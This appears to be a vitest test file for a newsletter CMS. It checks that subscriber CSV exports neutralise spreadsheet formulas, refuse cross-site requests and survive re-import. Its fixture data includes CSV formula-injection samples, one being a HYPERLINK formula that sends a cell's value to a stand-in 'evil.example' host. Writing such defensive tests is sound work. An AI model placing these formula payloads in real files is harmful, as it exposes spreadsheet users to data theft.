import { parse } from 'csv-parse/sync'
import { drizzle } from 'drizzle-orm/node-postgres'
import pg from 'pg'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { findGrowth } from '../../cms/features/newsletter/queries/growth.ts'
import type { Database } from '../../cms/platform/database/query.ts'
import { makeDatabase, onDatabase } from '../support/database.ts'
import { newsletterOf } from '../support/newsletter.ts'
import { importsOf, nonZeroCounts } from '../support/newsletter-imports.ts'
import { type Server, startServer } from '../support/server.ts'
import { makeStaff, sessionHeaders } from '../support/staff.ts'

let url: string
let server: Server
let sessions: Awaited<ReturnType<typeof makeStaff>>
let newsletter: ReturnType<typeof newsletterOf>
let lists: ReturnType<typeof importsOf>

// Values as people, spreadsheets and attackers write them, and as staff enter them in the admin.
const names = [
  'Ada',
  "O'Neill",
  "'quoted'",
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(1;2)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  'Ada, Countess; "Lovelace"',
  'two\nlines',
  '  spaces  all   around ',
  'José Ñuñez 李小龍 👩🏽‍🍳',
  'x;=1+1',
  '',
]
const phones = ['+44 114 496 0184', '0114 496 0184', '+441144960184', '=1', 'call the desk', null]

/** Inserts subscribers in every state, with values that are hard to encode as CSV. */
async function insertSubscribers() {
  await newsletter.query(
    `with people as (
       insert into subscribers (email, name, phone, birthday_day, birthday_month, state, joined_at,
                                left_at, paused_until, confirmed_at, source, updated_at)
       select 'reader' || n || '@venue.example', nullif(($1::text[])[1 + n % $3], ''),
              ($2::text[])[1 + n % $4], case when n % 3 = 0 then 1 + n % 28 end,
              case when n % 3 = 0 then 1 + n % 12 end,
              (array['active', 'active', 'pending', 'unsubscribed', 'bounced', 'complained'])
                [1 + n % 6]::enum_subscribers_state,
              case when n % 6 <> 2 then timestamptz '2026-01-02 03:04:05.678Z' + n * interval '1 h' end,
              case when n % 6 > 2 then timestamptz '2026-09-01 00:00Z' end,
              case when n % 12 = 0 then timestamptz '2027-01-01 00:00Z' end,
              timestamptz '2026-01-02 03:04:05.678Z', 'form', timestamptz '2026-02-03 00:00Z'
         from generate_series(1, 60) as n returning id, state),
     chosen as (
       insert into subscribers_interests ("order", parent_id, value)
       select place, id, interest::enum_subscribers_interests
         from people, unnest(array['Film & Cinema', 'Cooking Classes']) with ordinality as i (interest, place)
        where id % 2 = 0)
     insert into consents (subscriber_id, kind, at, how, wording, version)
     select id, 'given', timestamptz '2026-01-02 03:04:05.678Z', 'form', 'Yes, write to me; =1', 'v1'
       from people where state <> 'pending'`,
    [names, phones, names.length, phones.length],
  )
}
/** All rows that an import could change. */
const everything = async () =>
  Promise.all(
    [
      'subscribers',
      'subscribers_interests',
      'consents',
      'mails',
      'subscription_requests',
      'suppressions',
    ].map((table) =>
      newsletter.query<{ row: string }>(
        `select row_to_json(t)::text as row from ${table} as t order by id`,
      ),
    ),
  )

beforeAll(async () => {
  url = await makeDatabase('demo')
  server = await startServer({ DATABASE_URL: url })
  sessions = await makeStaff(server)
  newsletter = newsletterOf(server, url)
  lists = importsOf(server, sessions.publisher)
  await insertSubscribers()
})
afterAll(() => server?.stop())

const rowsOf = (text: string): Record<string, string>[] =>
  parse(text, { bom: true, columns: true, record_delimiter: '\r\n' })

describe('an export', () => {
  test('lists all subscribers, with a byte order mark on request', async () => {
    const response = await lists.exportList()
    expect(response.status).toBe(200)
    expect(response.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': expect.stringMatching(
        /^attachment; filename="subscribers [\d-]+\.csv"$/,
      ),
      'cache-control': 'no-store',
    })
    expect([...response.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(rowsOf(response.text)).toHaveLength(60)
    const bare = await lists.exportList('?mark=0')
    expect(bare.text.startsWith('email,name,phone,birthday,interests,state,')).toBe(true)
    expect(`\ufeff${bare.text}`).toBe(response.text)
  })

  test('has no cell that a spreadsheet evaluates as a formula', async () => {
    const { text } = await lists.exportList()
    for (const row of rowsOf(text)) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
    }
    expect(text).toContain("'+44 114 496 0184")
  })

  test('with a filter lists only matching subscribers', async () => {
    const states = rowsOf((await lists.exportList('?state=bounced')).text).map(({ state }) => state)
    expect(new Set(states)).toEqual(new Set(['bounced']))
    const interest = rowsOf((await lists.exportList('?interest=Film+%26+Cinema')).text)
    expect(interest).toHaveLength(30)
    expect((await lists.exportList('?state=gone')).status).toBe(400)
  })

  test('needs a publisher and a request from this site, and is audited without addresses', async () => {
    for (const headers of [{}, sessionHeaders(sessions.editor)]) {
      const response = await server.get('/api/newsletter/export', headers)
      expect([401, 403]).toContain(response.status)
      expect(response.text).not.toContain('@venue.example')
    }
    const cookie = `payload-token=${sessions.publisher}`
    const foreign = await server.get('/api/newsletter/export', {
      cookie,
      origin: 'https://evil.example',
      'sec-fetch-site': 'cross-site',
    })
    expect(foreign.status).toBe(401)
    const [entry] = await newsletter.query<{ row: string }>(
      `select row_to_json(a)::text as row from audit as a where action = 'exported' order by id limit 1`,
    )
    expect(entry?.row).toContain('60 subscribers')
    expect(entry?.row).toContain('"by_name":"publisher"')
    expect(entry?.row).not.toContain('@')
  })
})

describe('an export that is imported again', () => {
  test.each([
    ['as it is', (text: string) => text],
    ['without its byte order mark', (text: string) => text.slice(1)],
    ['with its columns reversed', (text: string) => reverseColumns(text)],
    ['in Excel’s UTF-16 with tabs', (text: string) => encodeAsExcel(text)],
  ])('%s changes nothing, not even timestamps', async (_, convert) => {
    const before = await everything()
    const { text } = await lists.exportList()
    const done = await lists.importList(convert(text), { unstated: 'ask' })
    expect([done.refusal, nonZeroCounts(done), done.rows]).toEqual([null, { same: 60 }, 60])
    expect(done.unused).toEqual([])
    expect(await everything()).toEqual(before)
  })

  test('in another installation creates the same subscribers, without mails', async () => {
    const otherUrl = await makeDatabase('empty')
    const other = await startServer({ DATABASE_URL: otherUrl, DEMO: '0' })
    const staff = await makeStaff(other)
    const otherLists = importsOf(other, staff.publisher)
    const { text } = await lists.exportList()
    const rows = rowsOf(text)
    const done = await otherLists.importList(text)
    // Rows with values that no form accepts are rejected, and unconfirmed subscribers are left out.
    expect(nonZeroCounts(done)).toMatchObject({
      noted: expect.any(Number),
      joins: expect.any(Number),
      asks: expect.any(Number),
    })
    const moved = rowsOf((await otherLists.exportList()).text)
    const rejected = done.counts.rejected
    expect(moved.length).toBe(60 - rejected - done.counts.asks)
    const bare = ({ consent_how, name, interests, ...rest }: Record<string, string>) => rest
    for (const row of moved) {
      const origin = rows.find(({ email }) => email === row.email)
      if (origin?.state === 'active') expect(bare(row)).toEqual(bare(origin))
      expect(row.state).toBe(origin?.state)
    }
    expect(
      moved
        .filter(({ state }) => state === 'active')
        .every(({ consent_how }) => consent_how === 'import: form'),
    ).toBe(true)
    const otherNewsletter = newsletterOf(other, otherUrl)
    expect(await otherNewsletter.query('select from mails')).toEqual([])
    await other.stop()
  })
})

function reverseColumns(text: string): string {
  const [header = [], ...rows] = parse(text, { bom: true }) as string[][]
  const quoted = (cells: string[]) =>
    cells
      .toReversed()
      .map((each) => `"${each.replaceAll('"', '""')}"`)
      .join(';')
  return [header, ...rows].map(quoted).join('\n')
}

function encodeAsExcel(text: string): Buffer {
  const rows = parse(text, { bom: true }) as string[][]
  const quoted = rows.map((cells) =>
    cells.map((each) => `"${each.replaceAll('"', '""')}"`).join('\t'),
  )
  return Buffer.from(`\ufeff${quoted.join('\r\n')}`, 'utf16le')
}

test('the growth of a year counts joins, leaves and subscribers per week', async () => {
  const other = await makeDatabase('empty')
  await onDatabase(other, (query) =>
    query(
      `insert into subscribers (email, state, joined_at, left_at)
       values ('old@venue.example', 'active', now() - interval '3 years', null),
              ('new@venue.example', 'active', now(), null),
              ('gone@venue.example', 'unsubscribed',
               (now() at time zone 'Europe/London' - interval '10 weeks') at time zone 'Europe/London', now()),
              ('asked@venue.example', 'pending', null, null)`,
    ),
  )
  const pool = new pg.Pool({ connectionString: other })
  const weeks = await findGrowth(drizzle(pool) as unknown as Database, 'Europe/London')
  await pool.end()
  expect(weeks).toHaveLength(52)
  expect(weeks[0]).toMatchObject({ joined: 0, left: 0, subscribers: 1 })
  expect(weeks.at(-11)).toMatchObject({ joined: 1, left: 0, subscribers: 2 })
  expect(weeks.at(-1)).toMatchObject({ joined: 1, left: 1, subscribers: 2 })
})
